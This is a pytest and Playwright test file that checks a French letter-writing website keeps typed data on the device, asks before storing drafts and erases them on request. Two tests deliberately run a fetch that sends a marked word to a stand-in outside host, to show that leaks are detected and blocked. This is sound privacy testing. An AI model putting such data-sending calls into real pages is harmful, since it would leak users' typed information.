"""Nothing that is typed leaves the device, and nothing stays on it unless asked."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.watch import Watch, watch
from tests.pages_server import PagesServer

pytestmark = pytest.mark.browser

# Words that stand nowhere in the site.
TYPED = {
    "client_name": "Zéphyrine Quuxley",
    "company": "Secrète & Fils <b>",
    "client_email": "zephyrine@quuxley.example",
    "last_day": "2027-03-17",
    "sender_name": "Wilhelmine Xanthippe",
    "tasks": "la page aubergine\nle dossier rutabaga",
}
SECRETS = ("zéphyrine", "quuxley", "secrète", "2027-03-17", "xanthippe", "aubergine", "rutabaga")
BODY = '[data-letter="body"]'


@pytest.fixture
def watched(chromium: Browser, site_url: str) -> Iterator[Watch]:
    """A page that is watched from outside; the test fails if anything left."""
    with watch(chromium, base_url=site_url) as watched:
        yield watched
        own = (site_url, "blob:", "data:")
        assert watched.elsewhere == []
        assert [each for each in watched.asked if not each.startswith(own)] == []
        assert watched.holding(*SECRETS) == []
        assert watched.refused == []


def _fill(page: Page, letter: str = "fr/letters/great-team/") -> None:
    page.goto(letter)
    for name, value in TYPED.items():
        field = page.locator(f'[name="{name}"]')
        if field.count():
            field.fill(value)
    expect(page.locator(BODY)).to_contain_text("rutabaga")


def test_reading(watched: Watch) -> None:
    """Reading, looking something up and changing the language ask only the site itself."""
    page = watched.page
    for path in ("", "fr/", "fr/rules/", "fr/choose/", "fr/letters/", "fr/law/"):
        page.goto(path)
    page.locator("[data-md-component=search-query]").first.press_sequentially("préavis")
    expect(page.locator(".md-search-result__item").first).to_be_attached()
    page.goto("fr/letters/stay-firm/")
    page.locator(".md-select").hover()
    page.locator('a[hreflang="en"]').first.click()
    expect(page.locator("html")).to_have_attribute("lang", "en")
    page.wait_for_load_state("networkidle")


def test_writing(watched: Watch, server: PagesServer) -> None:
    """Writing a letter in every way asks only for the site's own files, and sends nothing."""
    page = watched.page
    _fill(page)
    page.locator(BODY).press_sequentially("Rutabaga !")
    expect(page.locator("[data-edited]")).to_be_visible()
    page.locator('[name="company"]').fill("Rutabaga SARL")
    expect(page.locator("[data-offer]")).to_be_visible()
    page.locator("[data-offer]").get_by_role("button").first.click()
    for language in ("en-GB", "en-US", "fr"):
        page.locator('[data-choice="language"]').select_option(language)
        expect(page.locator(BODY)).to_have_attribute("lang", language)
    for channel in ("phone", "post", "email"):
        page.locator('[data-choice="channel"]').select_option(channel)
    page.locator("[data-notice] summary").first.click()
    page.locator('[data-field="number"]').first.fill("3")
    expect(page.locator("[data-sentence]").first).not_to_be_empty()
    page.locator("[data-keep]").check()
    page.locator('article a[href*="no-bandwidth/"]').first.click()
    expect(page.locator(BODY)).to_contain_text("Zéphyrine")
    page.wait_for_load_state("networkidle")
    assert not [path for path in server.requests if "rutabaga" in path.lower()]


def test_every_export(watched: Watch, tmp_path: Path) -> None:
    """Copy, mail, print, each file, and answers saved and opened: all happen in the page."""
    page = watched.page
    page.add_init_script("window.print = () => (document.body.dataset.printed = '1')")
    _fill(page)
    page.locator("details.more summary").click()
    for button in page.locator('[data-do="copy"]').all():
        button.click()
        expect(page.locator("[data-report]")).to_have_text("Copié.")
    for button in page.locator('[data-do="download"]').all():
        with page.expect_download() as download:
            button.click()
        assert Path(download.value.path()).stat().st_size
    for button in page.locator('[data-do="print"]').all():
        button.click()
        expect(page.locator("[data-printed]")).to_be_attached()
        page.evaluate("delete document.body.dataset.printed")
    page.locator('[data-do="mail"]').click()
    expect(page.locator("[data-report]")).not_to_be_empty()
    with page.expect_download() as download:
        page.locator("[data-save-answers]").click()
    answers = tmp_path / "answers.json"
    download.value.save_as(answers)
    page.locator("[data-open-answers]").set_input_files(answers)
    expect(page.locator("[data-report]")).to_contain_text("fichier")
    page.wait_for_load_state("networkidle")


def test_the_watch_sees_a_leak(chromium: Browser, server: PagesServer) -> None:
    """What the tests above look for would be seen: without a policy, a request gets out."""
    with watch(chromium) as watched:
        watched.page.goto("about:blank")
        watched.page.evaluate("fetch('http://elsewhere.example/?q=Ruta%62aga').catch(() => {})")
        assert len(watched.elsewhere) == len(watched.holding("rutabaga")) == 1


@pytest.mark.parametrize("where", ["page", "worker"])
def test_requests_elsewhere_are_refused(
    chromium: Browser, server: PagesServer, site_url: str, where: str
) -> None:
    """Neither the page nor the worker that runs Python can reach another computer."""
    with watch(chromium, base_url=site_url) as watched:
        _fill(watched.page)
        worker = next(each for each in watched.page.workers if each.url.startswith("blob:"))
        place = worker if where == "worker" else watched.page
        outcome = place.evaluate(
            "fetch('http://elsewhere.example/', { mode: 'no-cors' }).then(() => 'out', String)"
        )
        assert outcome.startswith("TypeError")
        assert watched.elsewhere == []
        if where == "page":
            assert "connect-src" in " ".join(watched.refused)


def _stored(page: Page, *texts: str) -> list[str]:
    """Return where the site has stored something on the device that holds one of *texts*."""
    # They are looked for over there: what is stored is too much to bring here.
    return page.evaluate(
        """async (texts) => {
          const found = [];
          const look = (place, value) => {
            const text = `${place} ${value}`.toLowerCase();
            if (texts.some((each) => text.includes(each.toLowerCase()))) found.push(place);
          };
          look('cookies', document.cookie);
          for (const name of ['localStorage', 'sessionStorage'])
            for (const [key, value] of Object.entries(window[name])) look(`${name} ${key}`, value);
          for (const { name } of await indexedDB.databases()) look(`indexedDB ${name}`, '');
          for (const name of await caches.keys()) {
            const cache = await caches.open(name);
            for (const request of await cache.keys())
              look(`caches ${request.url}`, await (await cache.match(request))?.text());
          }
          return found;
        }""",
        texts,
    )


def test_what_the_device_stores(watched: Watch) -> None:
    """Nothing typed is stored before a yes; then in one place; erased, it is gone."""
    page = watched.page
    _fill(page)
    assert _stored(page, *SECRETS) == []
    page.locator("[data-keep]").check()
    (place,) = _stored(page, *SECRETS)
    assert place.startswith("localStorage fin-de-mission.drafts")
    assert _stored(page, TYPED["sender_name"]) == [place]
    page.locator("[data-erase]").click()
    expect(page.locator('[name="client_name"]')).to_have_value("")
    assert _stored(page, *SECRETS) == []
    assert _stored(page, "localStorage fin-de-mission.", "sessionStorage fin-de-mission.") == []
